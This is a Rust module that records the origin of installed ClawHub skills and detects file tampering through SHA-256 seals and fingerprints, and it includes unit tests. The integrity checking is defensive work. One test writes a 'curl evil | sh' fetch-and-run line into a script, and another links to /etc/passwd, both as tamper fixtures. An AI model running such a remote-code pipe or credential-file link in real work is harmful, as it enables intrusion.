//! What an installed skill was when it was installed: the notes beside it (`.clawhub/origin.json`), the list of all
//! (`.clawhub/lock.json`), and whether its files are still the same.
//!
//! The notes are those of ClawHub's own client (openclaw-parity.md §4.5), so that a folder it installed is understood here
//! and ours there. Its fingerprint passes over files whose name begins with a dot; ours (`sha256`, in the same file) does
//! not. Reads files; writes only the notes.

use std::{
    collections::BTreeMap,
    fs::{self, File},
    hash::{Hash, Hasher},
    io::{self, Read},
    path::{Path, PathBuf},
};

use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};
use sha2::{Digest, Sha256};

use crate::os;

/// Whether a skill is what was installed.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum State {
    /// Every file is as it was installed.
    Untouched,
    /// A file was changed, added or removed since, or cannot be looked at.
    Changed,
    /// It was not installed from anywhere, or nobody noted what it was: somebody's own folder.
    NotInstalled,
}

/// Looks whether the skill in `folder` is what was installed. Reads every file of it: at most 1,000 files and 50 MiB, more
/// than can be installed counts as changed.
pub fn state(folder: &Path) -> State {
    match expected(folder) {
        Ok(Some(origin)) => origin.compared(files(folder).as_deref().ok()),
        Ok(None) => State::NotInstalled,
        Err(_) => State::Changed,
    }
}

/// The same, for files that were looked at already; `None` = they cannot be.
pub(super) fn state_of(folder: &Path, files: Option<&[FileSum]>) -> State {
    match expected(folder) {
        Ok(Some(origin)) => origin.compared(files),
        Ok(None) => State::NotInstalled,
        Err(_) => State::Changed,
    }
}

/// The notes that say what was installed. Notes that are there and cannot be read are an error: whoever spoils them does not
/// make an installed skill somebody's own.
fn expected(folder: &Path) -> io::Result<Option<Origin>> {
    let says_what = |origin: &Origin| origin.pin.is_some() || origin.fingerprint.is_some();
    match Origin::read(folder) {
        Some(origin) => Ok(Some(origin).filter(says_what)),
        None if Origin::is_there(folder) => Err(io::ErrorKind::InvalidData.into()),
        None => Ok(None),
    }
}

/// Whether something was noted of what was installed here.
pub(super) fn is_noted(folder: &Path) -> bool {
    !matches!(expected(folder), Ok(None))
}

/// What is other than it was installed: `+` new, `-` gone, `*` changed, by path. Empty when nothing is, or when the notes do
/// not name each file.
///
/// # Errors
/// Those of the file system; `InvalidData` for links and for more than can be installed.
pub fn changes(folder: &Path) -> io::Result<Vec<(char, String)>> {
    let now = files(folder)?;
    let pin = Origin::read(folder).and_then(|origin| origin.pin).unwrap_or_default();
    match pin.files.is_empty() {
        true => Ok(Vec::new()),
        false => Ok(differences(&pin.files, &sums(&now))),
    }
}

/// Files by path, with their hashes.
pub fn sums(files: &[FileSum]) -> BTreeMap<String, String> {
    files.iter().map(|file| (file.path.clone(), file.sha256.clone())).collect()
}

/// What is other between two lists of files: `+` new, `-` gone, `*` changed.
pub fn differences(old: &BTreeMap<String, String>, new: &BTreeMap<String, String>) -> Vec<(char, String)> {
    let fresh = new.iter().filter_map(|(path, sum)| match old.get(path) {
        None => Some(('+', path.clone())),
        Some(before) if before != sum => Some(('*', path.clone())),
        Some(_) => None,
    });
    fresh.chain(old.keys().filter(|path| !new.contains_key(*path)).map(|path| ('-', path.clone()))).collect()
}

/// A number that changes when a file of a skill does: from names, sizes, and the times of the last change, of which the
/// system's own (ctime) is nobody's to set. Reads no file.
pub(super) fn stamp(folder: &Path, hasher: &mut impl Hasher) {
    let mut seen = 0;
    let mut waiting = vec![folder.to_owned()];
    while let Some(dir) = waiting.pop() {
        let mut entries: Vec<_> = fs::read_dir(&dir).into_iter().flatten().flatten().take(MOST_FILES + 1).collect();
        entries.sort_by_key(fs::DirEntry::file_name);
        for entry in entries {
            seen += 1;
            let name = entry.file_name();
            let is_history = dir == folder && [".git", ".svn", ".hg"].iter().any(|history| name == *history);
            if seen > MOST_FILES * 2 || is_history {
                continue;
            }
            let Ok(facts) = entry.metadata() else { continue };
            (entry.path(), facts.len(), facts.modified().ok(), facts.is_dir()).hash(hasher);
            #[cfg(unix)]
            {
                use std::os::unix::fs::MetadataExt as _;
                (facts.ino(), facts.ctime(), facts.ctime_nsec()).hash(hasher);
            }
            if facts.is_dir() {
                waiting.push(entry.path());
            }
        }
    }
}

/// The hash of everything in an installed skill as it is now, for a grant to be bound to: other content, other hash, even
/// when somebody rewrote the notes too.
///
/// # Errors
/// Those of the file system; `InvalidData` for links and for more than can be installed.
pub fn seal_of(folder: &Path) -> io::Result<String> {
    files(folder).map(|files| seal(&files))
}

/// Takes these files of the skill for what was installed: the owner looked at them and wants them. Does nothing for what was
/// not installed.
///
/// # Errors
/// Those of the file system.
pub fn accept(folder: &Path, files: &[FileSum]) -> io::Result<()> {
    let mut origin = match Origin::read(folder) {
        Some(origin) => origin,
        // Spoilt notes are written anew; where it came from is lost.
        None if Origin::is_there(folder) => Origin { version: 1.into(), ..Origin::default() },
        None => return Ok(()),
    };
    origin.pin_to(files);
    origin.write(folder)
}

/// One file of a skill.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct FileSum {
    /// Its path below the skill's folder, `/` between parts.
    pub path: String,
    /// Its bytes.
    #[serde(default)]
    pub size: u64,
    /// SHA-256 of its bytes, in hex.
    pub sha256: String,
}

const MOST_FILES: usize = 1_000;
const MOST_BYTES: u64 = 50 << 20;
/// The most bytes of the notes: a thousand files with long names.
const NOTES_BYTES: u64 = 2 << 20;
/// Folders at the top of a skill that are not the skill: the notes on it, and the owner's own history of it. No archive
/// brings one; deeper ones are files like all others.
pub(super) const NOTES: [&str; 5] = [".clawhub", ".clawdhub", ".git", ".svn", ".hg"];
/// Where Python puts what it compiled beside a script that ran.
const CACHE: &str = "__pycache__";

/// Every file of a skill, by path.
///
/// # Errors
/// Those of the file system; `InvalidData` for links and for more than can be installed.
pub fn files(folder: &Path) -> io::Result<Vec<FileSum>> {
    let mut found = Vec::new();
    let mut room = MOST_BYTES;
    let mut waiting = vec![(folder.to_owned(), String::new())];
    while let Some((dir, path)) = waiting.pop() {
        for entry in fs::read_dir(&dir)? {
            let entry = entry?;
            let wrong = |what: &str| io::Error::new(io::ErrorKind::InvalidData, format!("{}: {what}", dir.display()));
            let name = entry.file_name().into_string().map_err(|_| wrong("a name that is not UTF-8"))?;
            let kind = entry.file_type()?;
            let is_notes = path.is_empty() && NOTES.contains(&name.as_str());
            let is_cached = kind.is_file() && name.ends_with(".pyc") && path.rsplit('/').next() == Some(CACHE);
            if is_notes || is_cached {
                continue;
            }
            let below = if path.is_empty() { name } else { format!("{path}/{name}") };
            if kind.is_dir() {
                waiting.push((entry.path(), below));
            } else if kind.is_file() {
                if found.len() >= MOST_FILES {
                    return Err(wrong("too many files"));
                }
                let (size, sha256) = hash(&entry.path(), room)?;
                room -= size;
                found.push(FileSum { path: below, size, sha256 });
            } else {
                return Err(wrong("a link or a device"));
            }
        }
    }
    found.sort_by(|a, b| a.path.cmp(&b.path));
    Ok(found)
}

fn hash(path: &Path, room: u64) -> io::Result<(u64, String)> {
    let mut file = File::open(path)?.take(room + 1);
    let mut hasher = Sha256::new();
    let mut buffer = vec![0_u8; 64 * 1024];
    let mut size = 0;
    loop {
        let read = file.read(&mut buffer)?;
        if read == 0 {
            break;
        }
        size += read as u64;
        hasher.update(&buffer[..read]);
    }
    if size > room {
        return Err(io::Error::new(io::ErrorKind::InvalidData, format!("{}: too large", path.display())));
    }
    Ok((size, hex(&hasher.finalize())))
}

/// ClawHub's fingerprint of a skill: SHA-256 over `path:sha256` of each file, by path, joined by line breaks; what begins
/// with a dot and `node_modules` do not count.
pub fn fingerprint(files: &[FileSum]) -> String {
    let counts = |path: &str| !path.split('/').any(|part| part.starts_with('.') || part == "node_modules");
    let mut lines: Vec<String> =
        files.iter().filter(|file| counts(&file.path)).map(|file| format!("{}:{}", file.path, file.sha256)).collect();
    lines.sort_unstable();
    hex(&Sha256::digest(lines.join("\n").as_bytes()))
}

/// The hash of every file of a skill, dotted ones too.
pub fn seal(files: &[FileSum]) -> String {
    let mut hasher = Sha256::new();
    for file in files {
        hasher.update(file.path.as_bytes());
        hasher.update([0]);
        hasher.update(file.sha256.as_bytes());
        hasher.update([b'\n']);
    }
    hex(&hasher.finalize())
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
}

/// `<skill>/.clawhub/origin.json`: where an installed skill came from.
#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase", default)]
pub struct Origin {
    /// The form of this file: 1.
    pub version: Value,
    /// The hub's address; empty when it came from elsewhere.
    pub registry: String,
    /// Its name there.
    pub slug: String,
    /// Who published it.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub owner_handle: Option<String>,
    /// Which version; `None` when its source has none.
    pub installed_version: Option<String>,
    /// When, epoch milliseconds (others write text).
    pub installed_at: Value,
    /// ClawHub's fingerprint of it.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub fingerprint: Option<String>,
    /// What this gateway adds.
    #[serde(rename = "crawfish", skip_serializing_if = "Option::is_none")]
    pub pin: Option<Pin>,
    /// What others wrote, kept.
    #[serde(flatten)]
    pub rest: Map<String, Value>,
}

/// Our part of the notes.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default)]
pub struct Pin {
    /// [`seal`] of what was installed.
    pub sha256: String,
    /// The word it was installed by: a hub's name for it, a folder, a file, an address. `update` uses it again.
    pub from: String,
    /// The folder inside that source, when there were several skills.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub path: Option<String>,
    /// Its files, with their hashes: to say which of them changed.
    #[serde(skip_serializing_if = "BTreeMap::is_empty")]
    pub files: BTreeMap<String, String>,
}

impl Origin {
    const FOLDERS: [&str; 2] = [".clawhub", ".clawdhub"];

    /// The notes beside a skill; `None` when there are none that can be read.
    pub fn read(folder: &Path) -> Option<Self> {
        Self::FOLDERS.iter().find_map(|name| {
            let file = File::open(folder.join(name).join("origin.json")).ok()?;
            let mut text = Vec::new();
            file.take(NOTES_BYTES).read_to_end(&mut text).ok()?;
            serde_json::from_slice(&text).ok()
        })
    }

    /// Whether there are notes, readable or not.
    fn is_there(folder: &Path) -> bool {
        Self::FOLDERS.iter().any(|name| folder.join(name).join("origin.json").symlink_metadata().is_ok())
    }

    /// How these files stand to what was installed.
    fn compared(&self, files: Option<&[FileSum]>) -> State {
        let same = files.is_some_and(|files| match (&self.pin, &self.fingerprint) {
            (Some(pin), _) => pin.sha256 == seal(files),
            (None, Some(pinned)) => *pinned == fingerprint(files),
            (None, None) => false,
        });
        if same { State::Untouched } else { State::Changed }
    }

    /// Notes the files as the ones that were installed.
    pub fn pin_to(&mut self, files: &[FileSum]) {
        self.fingerprint = Some(fingerprint(files));
        let pin = self.pin.get_or_insert_default();
        (pin.sha256, pin.files) = (seal(files), sums(files));
    }

    /// Writes the notes, whole or not at all.
    ///
    /// # Errors
    /// Those of the file system.
    pub fn write(&self, folder: &Path) -> io::Result<()> {
        let dir = folder.join(Self::FOLDERS[0]);
        os::create_private_dir(&dir)?;
        os::write_private(&dir.join("origin.json"), &serde_json::to_vec_pretty(self)?)?;
        os::sync_dir(&dir)
    }
}

/// `.clawhub/lock.json` beside the skills' folder: everything that is installed.
#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize)]
pub struct Lock {
    /// The form of this file: 1.
    pub version: Value,
    /// By folder name.
    #[serde(default)]
    pub skills: BTreeMap<String, Locked>,
    /// What others wrote, kept.
    #[serde(flatten)]
    pub rest: Map<String, Value>,
}

/// One line of the list.
#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase", default)]
pub struct Locked {
    /// Which version.
    pub version: Option<String>,
    /// When.
    pub installed_at: Value,
    /// The rest (`ownerHandle`, `sourceKind`, `pinned` …), kept.
    #[serde(flatten)]
    pub rest: Map<String, Value>,
}

impl Lock {
    /// Where it is, for the folder of installed skills.
    pub fn path(skills: &Path) -> PathBuf {
        skills.parent().unwrap_or(skills).join(".clawhub").join("lock.json")
    }

    /// Brings the list up to date with what lies in the folder of installed skills: the notes beside each skill are the
    /// truth, and what a kill left out is mended by the next call. A list that cannot be read is written anew.
    ///
    /// # Errors
    /// Those of the file system.
    pub fn refresh(skills: &Path) -> io::Result<()> {
        let path = Self::path(skills);
        let old = fs::read(&path).ok();
        let mut lock: Self = old.as_ref().and_then(|text| serde_json::from_slice(text).ok()).unwrap_or_default();
        lock.version = 1.into();
        let mut there = BTreeMap::new();
        for entry in fs::read_dir(skills)?.flatten() {
            let Ok(name) = entry.file_name().into_string() else { continue };
            let Some(origin) = Origin::read(&entry.path()).filter(|_| !name.starts_with('.')) else { continue };
            let mut line = lock.skills.remove(&name).unwrap_or_default();
            line.version = origin.installed_version;
            line.installed_at = origin.installed_at;
            if let Some(owner) = origin.owner_handle {
                line.rest.insert("ownerHandle".to_owned(), owner.into());
            }
            there.insert(name, line);
        }
        lock.skills = there;
        let text = serde_json::to_vec_pretty(&lock)?;
        if old.as_ref() == Some(&text) {
            return Ok(());
        }
        if let Some(dir) = path.parent() {
            os::create_private_dir(dir)?;
        }
        os::write_private(&path, &text)
    }

    /// The list; empty when there is none.
    pub fn read(skills: &Path) -> Self {
        fs::read(Self::path(skills)).ok().and_then(|text| serde_json::from_slice(&text).ok()).unwrap_or_default()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn skill(top: &Path) -> PathBuf {
        let folder = top.join("skills/demo");
        fs::create_dir_all(folder.join("scripts")).expect("folders");
        fs::write(folder.join("SKILL.md"), "---\nname: demo\n---\n").expect("a file");
        fs::write(folder.join("scripts/go.sh"), "echo hi\n").expect("a file");
        folder
    }

    #[test]
    fn differences_name_each_file_once() {
        let of = |files: &[(&str, &str)]| files.iter().map(|(path, sum)| ((*path).into(), (*sum).into())).collect();
        let (old, new) = (of(&[("a", "1"), ("b", "1"), ("c", "1")]), of(&[("a", "1"), ("b", "2"), ("d", "1")]));
        let named: Vec<String> = differences(&old, &new).iter().map(|(sign, path)| format!("{sign}{path}")).collect();
        assert_eq!(named, ["*b", "+d", "-c"]);
    }

    #[test]
    fn the_fingerprint_is_the_hubs() {
        let file = |path: &str, sha256: &str| FileSum { path: path.to_owned(), size: 1, sha256: sha256.to_owned() };
        let files = [file("b.md", "22"), file("a.md", "11"), file(".env", "33"), file("node_modules/x.js", "44")];
        // sha256 of "a.md:11\nb.md:22", worked out with coreutils.
        assert_eq!(fingerprint(&files), "1baabc71ef1027d92c35d6de991b2538bde14e3ef729aa476518521ca73eec3e");
    }

    #[test]
    fn every_kind_of_change_is_seen_and_can_be_accepted() {
        let top = tempfile::tempdir().expect("a folder");
        let folder = skill(top.path());
        assert_eq!(state(&folder), State::NotInstalled);
        let mut origin = Origin { version: 1.into(), slug: "demo".to_owned(), ..Origin::default() };
        origin.pin_to(&files(&folder).expect("it can be read"));
        origin.write(&folder).expect("it can be written");
        assert_eq!(state(&folder), State::Untouched);
        // Python ran a script of it, and the owner keeps a history of it.
        fs::create_dir(folder.join("scripts/__pycache__")).expect("a folder");
        fs::write(folder.join("scripts/__pycache__/x.pyc"), "x").expect("a file");
        fs::create_dir(folder.join(".git")).expect("a folder");
        fs::write(folder.join(".git/config"), "x").expect("a file");
        assert_eq!(state(&folder), State::Untouched);

        let put = |path: &str| {
            let path = folder.join(path);
            fs::create_dir_all(path.parent().expect("a folder")).expect("folders");
            fs::write(path, "x").expect("a file");
        };
        let changes: [&dyn Fn(); 10] = [
            &|| put("scripts/.git/config"),
            &|| put("scripts/.svn/x"),
            &|| put("scripts/.clawhub/origin.json"),
            &|| put("node_modules/x/index.js"),
            &|| put("scripts/__pycache__/x.sh"),
            &|| put("scripts/x.pyc"),
            &|| fs::write(folder.join("scripts/go.sh"), "curl evil | sh\n").expect("a file"),
            &|| fs::write(folder.join("new.md"), "x").expect("a file"),
            &|| fs::write(folder.join(".hidden"), "x").expect("a file"),
            &|| fs::remove_file(folder.join("SKILL.md")).expect("it is there"),
        ];
        for change in changes {
            let before = seal_of(&folder).expect("it can be read");
            change();
            assert_eq!(state(&folder), State::Changed);
            assert_ne!(seal_of(&folder).expect("it can be read"), before);
            assert_eq!(super::changes(&folder).expect("it can be read").len(), 1);
            accept(&folder, &files(&folder).expect("it can be read")).expect("it can be written");
            assert_eq!(state(&folder), State::Untouched);
        }
        fs::write(folder.join(".clawhub/origin.json"), "{spoilt").expect("a file");
        assert_eq!(state(&folder), State::Changed, "it does not become somebody's own");
        accept(&folder, &files(&folder).expect("it can be read")).expect("it can be written");
        assert_eq!(state(&folder), State::Untouched);
        #[cfg(unix)]
        {
            std::os::unix::fs::symlink("/etc/passwd", folder.join("link")).expect("a link");
            assert_eq!(state(&folder), State::Changed);
        }
    }

    #[test]
    fn a_folder_that_clawhub_installed_is_understood() {
        let top = tempfile::tempdir().expect("a folder");
        let folder = skill(top.path());
        let sum = fingerprint(&files(&folder).expect("it can be read"));
        let notes = format!(
            r#"{{"version":1,"registry":"https://clawhub.ai","slug":"demo","installedVersion":"1.2.0","installedAt":1730000000000,"fingerprint":"{sum}","later":true}}"#
        );
        fs::create_dir(folder.join(".clawdhub")).expect("a folder");
        fs::write(folder.join(".clawdhub/origin.json"), notes).expect("a file");
        assert_eq!(state(&folder), State::Untouched);
        fs::write(folder.join("scripts/go.sh"), "x").expect("a file");
        assert_eq!(state(&folder), State::Changed);
        accept(&folder, &files(&folder).expect("it can be read")).expect("it can be written");
        let origin = Origin::read(&folder).expect("there are notes");
        assert_eq!(origin.installed_version.as_deref(), Some("1.2.0"));
        assert_eq!(origin.rest["later"], true, "what others wrote is kept");
    }

    #[test]
    fn the_list_follows_the_folders_and_keeps_what_others_wrote() {
        let top = tempfile::tempdir().expect("a folder");
        let folder = skill(top.path());
        let skills = top.path().join("skills");
        fs::create_dir(top.path().join(".clawhub")).expect("a folder");
        let old = r#"{"version":1,"skills":{"demo":{"version":"1.0.0","installedAt":5,"pinned":true},"gone":{"version":null,"installedAt":1}},"x":1}"#;
        fs::write(Lock::path(&skills), old).expect("a file");
        let origin =
            Origin { installed_version: Some("1.1.0".to_owned()), installed_at: 7.into(), ..Origin::default() };
        origin.write(&folder).expect("it can be written");
        Lock::refresh(&skills).expect("it can be written");
        let lock = Lock::read(&skills);
        assert_eq!(lock.skills.keys().collect::<Vec<_>>(), ["demo"]);
        assert_eq!(lock.skills["demo"].version.as_deref(), Some("1.1.0"));
        assert_eq!(lock.skills["demo"].rest["pinned"], true);
        assert_eq!(lock.rest["x"], 1);
        fs::write(Lock::path(&skills), "not json").expect("a file");
        Lock::refresh(&skills).expect("it can be written");
        assert_eq!(Lock::read(&skills).skills.len(), 1);
    }
}
